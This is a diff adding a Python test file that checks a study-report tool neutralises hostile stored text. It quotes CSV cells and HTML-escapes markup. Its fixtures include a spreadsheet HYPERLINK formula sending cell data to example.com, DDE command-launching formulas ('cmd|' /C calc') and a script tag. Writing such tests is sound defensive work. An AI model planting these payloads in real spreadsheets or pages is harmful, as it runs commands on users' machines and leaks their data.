@@ -1,0 +1,49 @@
+"""A study storage from elsewhere, written into report.html and trials.csv: its text (errors,
+axis values, worker names, the study's name) stays text in a browser and in a spreadsheet."""
+from __future__ import annotations
+
+import csv
+import json
+
+import optuna
+from _explore_studies import write_study
+from optuna.trial import TrialState, create_trial
+
+from cnnspace.cli import main
+from cnnspace.explore import load_study_file, open_storage
+from cnnspace.explore._journal import WORKER_ATTR
+from cnnspace.explore._records import STUDY_ATTR
+
+FORMULA = '=HYPERLINK("http://example.com/?"&A1,"details")'
+SCRIPT = "<script>alert(1)</script>"
+
+
+def crafted_storage(folder, name: str = "tiny") -> None:
+    """A study whose one failed trial stores text a spreadsheet or browser would run."""
+    study_file = load_study_file(write_study(folder, name=name))
+    storage = open_storage(folder / "study.journal", heartbeat=None)
+    study = optuna.create_study(study_name=name, storage=storage,
+                                directions=study_file.directions)
+    study.set_user_attr(STUDY_ATTR, json.loads(json.dumps(study_file.to_dict())))
+    study.add_trial(create_trial(state=TrialState.FAIL, user_attrs={
+        "outcome": "failed", "point": {"sr": 0.25}, "point_id": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "error": FORMULA + SCRIPT, WORKER_ATTR: "+cmd|' /C calc'!A0"}))
+
+
+def test_trials_csv_cells_that_a_spreadsheet_would_run_stay_text(tmp_path):
+    crafted_storage(tmp_path)
+    assert main(["report", str(tmp_path)]) == 0
+    with (tmp_path / "trials.csv").open(newline="") as f:
+        (row,) = list(csv.DictReader(f))
+    assert row["error"] == "'" + FORMULA + SCRIPT
+    assert row["point_id"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert row["worker"] == "'+cmd|' /C calc'!A0"
+    assert row["outcome"] == "failed" and row["sr"] == "0.25"
+
+
+def test_report_html_shows_stored_markup_as_text(tmp_path):
+    crafted_storage(tmp_path)
+    assert main(["report", str(tmp_path)]) == 0
+    html = (tmp_path / "report.html").read_text()
+    assert SCRIPT not in html
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
